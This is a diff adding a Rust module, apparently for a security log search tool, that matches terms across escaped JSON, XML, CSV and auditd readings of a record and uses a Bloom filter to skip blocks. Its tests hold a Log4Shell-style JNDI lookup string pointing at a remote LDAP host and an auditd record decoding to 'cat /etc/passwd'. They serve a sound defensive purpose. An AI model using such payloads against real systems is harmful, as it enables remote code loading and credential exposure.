@@ -1,0 +1,229 @@
+//! The texts that one record can be read as, and whether they hold a term.
+//!
+//! A person searches for `C:\Windows` or `"cmd" /c`, while the file may hold `C:\\Windows` inside JSON,
+//! `&quot;cmd&quot;` inside XML or `""cmd""` inside CSV. A term is found where any reading holds it.
+
+use std::borrow::Cow;
+
+use memchr::memmem::Finder;
+
+use super::fields::{Shape, json, parse, xml};
+use super::source::Format;
+
+/// What is searched for, in lower case.
+#[derive(Debug, Clone)]
+pub(crate) struct Term {
+    finder: Finder<'static>,
+    grams: Vec<u32>,
+}
+
+impl Term {
+    pub(crate) fn new(text: &str) -> Self {
+        let lower = text.to_ascii_lowercase();
+        let mut grams = Vec::new();
+        each_gram(lower.as_bytes(), &mut |gram| grams.push(gram));
+        Self { finder: Finder::new(lower.as_bytes()).into_owned(), grams }
+    }
+
+    /// Whether `lower`, a text in lower case, holds the term.
+    fn is_in(&self, lower: &[u8]) -> bool {
+        self.finder.find(lower).is_some()
+    }
+}
+
+/// Which of `terms` a record holds: all of them, or any.
+pub(crate) fn holds(shape: &Shape, raw: &[u8], terms: &[Term], any: bool) -> bool {
+    if terms.is_empty() {
+        return true;
+    }
+    let mut found = vec![false; terms.len()];
+    each(shape, raw, &mut |lower| {
+        for (term, found) in terms.iter().zip(&mut found) {
+            *found = *found || term.is_in(lower);
+        }
+        if any { found.contains(&true) } else { !found.contains(&false) }
+    });
+    if any { found.contains(&true) } else { !found.contains(&false) }
+}
+
+/// Whether none of the records in `block` can hold the terms, seen at once: only where their bytes are
+/// their only reading.
+pub(crate) fn cannot_hold(block: &[u8], terms: &[Term], any: bool) -> bool {
+    let packed = memchr::memchr2(b'\\', b'&', block).is_some()
+        || ["\"\"", "audit("].iter().any(|mark| memchr::memmem::find(block, mark.as_bytes()).is_some());
+    if terms.is_empty() || packed || !block.is_ascii() {
+        return false;
+    }
+    let lower = block.to_ascii_lowercase();
+    if any { !terms.iter().any(|t| t.is_in(&lower)) } else { !terms.iter().all(|t| t.is_in(&lower)) }
+}
+
+/// Gives each reading of a record in lower case, the bytes themselves first, until `enough` says so.
+pub(crate) fn each(shape: &Shape, raw: &[u8], enough: &mut dyn FnMut(&[u8]) -> bool) {
+    if enough(&raw.to_ascii_lowercase()) {
+        return;
+    }
+    let text = String::from_utf8_lossy(raw);
+    if matches!(text, Cow::Owned(_)) && enough(text.to_ascii_lowercase().as_bytes()) {
+        return;
+    }
+    let mut text = text.into_owned();
+    // JSON inside a string inside JSON: two levels are what logs have.
+    for _ in 0..2 {
+        if !text.contains('\\') {
+            break;
+        }
+        text = unescape(&text);
+        if enough(text.to_ascii_lowercase().as_bytes()) {
+            return;
+        }
+        if !text.contains("\\\"") && !text.contains("\\u") {
+            break;
+        }
+    }
+    if text.contains('&') && text.contains(';') && enough(xml::unescape(&text).to_ascii_lowercase().as_bytes()) {
+        return;
+    }
+    if matches!(shape.format, Format::Csv | Format::Tsv)
+        && text.contains("\"\"")
+        && enough(text.replace("\"\"", "\"").to_ascii_lowercase().as_bytes())
+    {
+        return;
+    }
+    if text.contains("audit(") {
+        let values: Vec<String> = parse(shape, raw).fields.into_iter().map(|(_, v)| v).collect();
+        enough(values.join("\n").to_ascii_lowercase().as_bytes());
+    }
+}
+
+fn unescape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = memchr::memchr(b'\\', rest.as_bytes()) {
+        out.push_str(rest.get(..at).unwrap_or_default());
+        rest = rest.get(at..).unwrap_or_default();
+        let used = json::unescape(rest, &mut out).unwrap_or_else(|| {
+            out.push('\\');
+            1
+        });
+        rest = rest.get(used..).unwrap_or_default();
+    }
+    out.push_str(rest);
+    out
+}
+
+/// Which four-byte sequences occur in a block of records: a Bloom filter with one hash, so that most
+/// blocks without a term are passed over. It never says no where the term is.
+#[derive(Debug)]
+pub(crate) struct Grams {
+    words: Vec<u64>,
+}
+
+const BITS: usize = 1 << 18;
+
+impl Grams {
+    pub(crate) fn new() -> Self {
+        Self { words: vec![0; BITS / 64] }
+    }
+
+    pub(crate) fn add(&mut self, lower: &[u8]) {
+        let words = &mut self.words;
+        each_gram(lower, &mut |gram| {
+            let at = gram as usize & (BITS - 1);
+            if let Some(word) = words.get_mut(at / 64) {
+                *word |= 1 << (at % 64);
+            }
+        });
+    }
+
+    /// The filter in as few bytes as keep it sparse, and an empty one for what follows.
+    pub(crate) fn take(&mut self) -> Vec<u8> {
+        let mut words = std::mem::take(&mut self.words);
+        self.words = vec![0; BITS / 64];
+        let mut set: usize = words.iter().map(|w| w.count_ones() as usize).sum();
+        while words.len() > 16 && set * 8 <= words.len() * 64 {
+            let half = words.len() / 2;
+            let (low, high) = words.split_at_mut(half);
+            low.iter_mut().zip(high).for_each(|(a, b)| *a |= *b);
+            words.truncate(half);
+            set = words.iter().map(|w| w.count_ones() as usize).sum();
+        }
+        words.iter().flat_map(|w| w.to_le_bytes()).collect()
+    }
+}
+
+/// Whether a block with this filter may hold the term.
+pub(crate) fn may_hold(filter: &[u8], term: &Term) -> bool {
+    let bits = filter.len() * 8;
+    if !bits.is_power_of_two() {
+        return true;
+    }
+    term.grams.iter().all(|gram| {
+        let at = *gram as usize & (bits - 1);
+        filter.get(at / 8).is_none_or(|byte| byte >> (at % 8) & 1 == 1)
+    })
+}
+
+fn each_gram(lower: &[u8], sink: &mut dyn FnMut(u32)) {
+    for window in lower.windows(4) {
+        if let [a, b, c, d] = window {
+            let mut hash = u32::from_le_bytes([*a, *b, *c, *d]).wrapping_mul(0x9e37_79b1);
+            hash ^= hash >> 15;
+            sink(hash.wrapping_mul(0x85eb_ca77) >> 3);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(format: Format, raw: &str, term: &str, expect: bool) {
+        let shape = Shape::of(format);
+        let terms = [Term::new(term)];
+        assert_eq!(holds(&shape, raw.as_bytes(), &terms, false), expect, "{term} in {raw}");
+        if expect {
+            let mut grams = Grams::new();
+            each(&shape, raw.as_bytes(), &mut |lower| {
+                grams.add(lower);
+                false
+            });
+            assert!(may_hold(&grams.take(), &terms[0]), "the filter must not hide {term}");
+        }
+    }
+
+    #[test]
+    fn a_term_is_found_however_it_is_packed() {
+        let json = r#"{"Image":"C:\\Windows\\System32\\netsh.exe","m":"{\"a\":\"x \\\"y\\\"\"}","x":"\u003cData\u003ea &quot;b&quot;\u003c/Data\u003e"}"#;
+        check(Format::Ndjson, json, r"C:\Windows\System32\NETSH.exe", true);
+        check(Format::Ndjson, json, r"C:\\Windows", true);
+        check(Format::Ndjson, json, "<Data>", true);
+        check(Format::Ndjson, json, r#"a "b""#, true);
+        check(Format::Ndjson, json, r#"x "y""#, true);
+        check(Format::Ndjson, json, "netsh.ex", true);
+        check(Format::Ndjson, json, "netsh-exe", false);
+        check(Format::Csv, "a,\"say \"\"hi\"\"\"", "say \"hi\"", true);
+        check(
+            Format::Auditd,
+            "type=PROCTITLE msg=audit(1.5:2): proctitle=636174002F6574632F706173737764",
+            "cat /etc/passwd",
+            true,
+        );
+        check(Format::Plain, "${jndi:ldap://192.168.2.6:1389/o=reference}", "${jndi:ldap", true);
+        check(Format::Plain, "x", "x", true);
+        check(Format::Plain, "", "x", false);
+        check(Format::Plain, "Grün", "grün", true);
+    }
+
+    #[test]
+    fn a_filter_hides_most_of_what_is_not_there() {
+        let mut grams = Grams::new();
+        for i in 0..500 {
+            grams.add(format!("{{\"user\":\"bob{i}\",\"ip\":\"10.0.{i}.1\"}}").as_bytes());
+        }
+        let filter = grams.take();
+        assert!(filter.len() <= 16 << 10);
+        let hit = (0..200).filter(|i| may_hold(&filter, &Term::new(&format!("alice-{i}-nowhere")))).count();
+        assert!(hit < 4, "{hit}");
+    }
+}
